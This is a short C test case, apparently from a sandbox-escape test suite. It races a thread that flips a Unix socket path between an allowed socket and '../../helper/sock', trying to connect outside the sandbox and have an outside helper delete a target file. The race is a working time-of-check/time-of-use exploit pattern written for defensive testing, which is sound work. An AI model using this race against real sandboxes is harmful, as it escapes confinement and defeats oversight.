// what: the address of connect flips between an own socket and one outside
// target: home/tree/data/alpha.txt
// expect: escapes
// outside: deleter.py stream

#include "common.h"

static struct sockaddr_un a = {AF_UNIX, "own.sock"}; static char mine[108], theirs[108]; static volatile int stop;
static void *flip(void *x) { while (!stop) { memcpy(a.sun_path, theirs, 108); SEEN; memcpy(a.sun_path, mine, 108); SEEN; } return 0; }
int main(void) {
    start();
    strcpy(mine, "own.sock"); strcpy(theirs, "../../helper/sock"); char *o = at("TREE", ALPHA);
    int l = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0); bind(l, (void *)&a, sizeof a); listen(l, 4000);
    pthread_t t; pthread_create(&t, 0, flip, 0);
    time_t end = time(0) + 4;
    while (!access(ALPHA, F_OK) && time(0) < end) {
        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0); connect(s, (void *)&a, sizeof a);
        send(s, o, strlen(o), MSG_NOSIGNAL); close(s); close(accept(l, 0, 0));
    }
    stop = 1; pthread_join(t, 0);
}
